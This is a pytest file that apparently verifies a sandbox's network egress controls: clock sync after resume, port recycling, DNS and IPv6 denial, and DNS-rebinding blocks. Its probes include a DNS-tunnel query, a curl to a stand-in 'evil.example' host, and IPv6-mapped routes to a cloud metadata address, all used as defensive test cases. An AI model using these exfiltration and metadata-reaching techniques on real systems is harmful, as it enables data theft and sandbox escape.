"""The network of a session: clock, ports, names, IPv6 and private addresses, as users met them."""

from __future__ import annotations

import http.client
import json
import time
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest

from sojourn import NetworkMode, NetworkPolicy, Session, Sojourn, allow
from sojourn.wire.networks import PortInfo
from support.gateway_world import ALLOWED, ALLOWED_V6, METADATA, NAMESERVER, PRIVATE, World
from support.servers import ServerProcess

pytestmark = pytest.mark.privileged

OPEN = NetworkPolicy(mode=NetworkMode.OPEN)
AWAY = 3.0


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """Servers outside, on addresses of the real world in a namespace of the test's own."""
    with World(tmp_path_factory.mktemp("world")) as made:
        for address in (ALLOWED, ALLOWED_V6, METADATA, PRIVATE):
            made.serve(address, 80, made.http)
        yield made


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, world: World) -> Iterator[ServerProcess]:
    made = ServerProcess(tmp_path_factory.mktemp("network") / "data")
    made.start(
        SOJOURN_EGRESS_NAMESPACE=world.namespace,
        SOJOURN_EGRESS_NAMESERVERS=NAMESERVER,
        SOJOURN_EGRESS_ROOTS=str(world.roots),
    )
    yield made
    made.remove()


@pytest.fixture
def client(server: ServerProcess, world: World) -> Sojourn:
    world.queries.clear()
    world.connections.clear()
    return server.client()


@pytest.fixture(scope="module")
def opened(server: ServerProcess) -> Session:
    """A session that may reach all that is public."""
    return server.client().sessions.create(network=OPEN)


def python(session: Session, program: str) -> str:
    return session.exec(["python3", "-c", program]).text.strip()


def off_by(session: Session) -> float:
    """Seconds between the host's clock and the session's, at most."""
    before = time.time()
    inside = float(session.exec(["date", "+%s.%N"]).text)
    return max(before - inside, inside - time.time(), 0.0)


@pytest.mark.parametrize("verb", ["pause", "suspend"])
def test_c67_the_clock_is_right_after_a_resume(client: Sojourn, verb: str) -> None:
    session = client.sessions.create()
    getattr(session, verb)()
    time.sleep(AWAY)
    session.resume()
    assert off_by(session) < 0.1
    session.delete()


def ask(port: PortInfo) -> int:
    assert port.path_url is not None
    url = urlsplit(port.path_url)
    connection = http.client.HTTPConnection(str(url.hostname), url.port, timeout=70)
    try:
        connection.request("GET", url.path)
        return connection.getresponse().status
    finally:
        connection.close()


def test_c69_a_port_never_reaches_the_session_before_or_after(client: Sojourn) -> None:
    seen: list[PortInfo] = []
    for turn in range(3):
        session = client.sessions.create(name="recycled")
        session.exec(f"mkdir /srv/www && echo {turn} > /srv/www/index.html")
        session.spawn("cd /srv/www && exec python3 -m http.server 8000")
        port = session.expose(8000, public=True)
        # The request after a wake waits for the program; it is never refused.
        session.suspend()
        assert ask(port) == 200
        for old in seen:
            assert old.path_url != port.path_url
            assert ask(old) == 404
        seen.append(port)
        session.delete()
    assert [ask(old) for old in seen] == [404] * 3


_LOOKUPS = f"""
import json, socket, struct
def lookup(name):
    try:
        return sorted(set(a[4][0] for a in socket.getaddrinfo(name, 80)))
    except OSError as error:
        return type(error).__name__
def query(address):
    ask = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\\x06secret\\x05drain\\x00\\x00\\x10\\x00\\x01"
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.settimeout(1)
    try:
        one.sendto(ask, (address, 53))
        return len(one.recv(4096))
    except OSError as error:
        return type(error).__name__
print(json.dumps(dict(libc=lookup("data.of.mine.evil.example"), udp=query("{NAMESERVER}"))))
"""


def test_c70_no_query_leaves_where_all_is_denied(client: Sojourn, world: World) -> None:
    session = client.sessions.create()
    found = json.loads(python(session, _LOOKUPS))
    assert found["libc"] == "gaierror" and "Error" in found["udp"]
    assert world.queries == []
    session.delete()


def test_c70_no_query_leaves_for_a_name_that_is_denied(client: Sojourn, world: World) -> None:
    session = client.sessions.create(network=allow("api.example.com"))
    json.loads(python(session, _LOOKUPS))  # an address of no meaning outside, or nothing
    session.exec("curl -s -m 5 http://data.of.mine.evil.example/")
    assert world.queries == []
    session.delete()


_SIX = """
import json, socket
found = {{}}
for address in {addresses}:
    one = socket.socket(socket.AF_INET6)
    one.settimeout(3)
    try:
        one.connect((address, 80))
        one.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        found[address] = one.recv(100).decode() or "closed"
    except OSError as error:
        found[address] = type(error).__name__
print(json.dumps(found))
"""


def test_c71_ipv6_is_no_way_round(client: Sojourn, opened: Session, world: World) -> None:
    program = _SIX.format(addresses=[ALLOWED_V6, f"::ffff:{METADATA}", f"64:ff9b::{METADATA}"])
    denied = client.sessions.create()
    for session in (denied, opened):
        for address, came in json.loads(python(session, program)).items():
            assert "200" not in came, (address, came)
    assert world.connections == []
    denied.delete()


@pytest.mark.parametrize(
    "answers",
    [[METADATA], [PRIVATE], ["127.0.0.1"], ["0.0.0.0"], ["fd00:ec2::254"], ["::ffff:10.9.8.7"]],
    ids=str,
)
def test_c73_a_name_that_leads_inside_is_denied_after_resolution(
    client: Sojourn, opened: Session, world: World, answers: list[str]
) -> None:
    world.zone["inward.example.com"] = answers
    said = opened.exec("curl -s -m 10 -o /dev/null -w '%{http_code}' http://inward.example.com/")
    assert said.text == "403"
    assert world.queries and world.connections == []


def test_c73_a_name_that_changes_its_mind_is_judged_each_time(
    client: Sojourn, opened: Session, world: World
) -> None:
    world.answers["turning.example.com"] = [[ALLOWED], [METADATA], [METADATA], [METADATA]]
    fetch = "curl -s -m 10 -o /dev/null -w '%{http_code} ' http://turning.example.com/"
    assert opened.exec(f"{fetch}; {fetch}").text.split()[-1] == "403"
    assert METADATA not in {address for address, _ in world.connections}
